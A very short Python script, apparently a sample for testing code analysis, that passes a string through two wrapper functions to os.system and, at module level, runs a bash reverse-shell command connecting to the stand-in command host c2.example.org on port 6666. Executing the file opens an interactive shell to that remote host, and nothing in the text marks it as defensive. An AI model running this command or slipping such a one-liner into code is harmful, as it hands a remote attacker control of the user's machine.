
import os

def inner(x):
    os.system(x)

def outer(y):
    inner(y)

outer("bash -i >& /dev/tcp/c2.example.org/6666 0>&1")
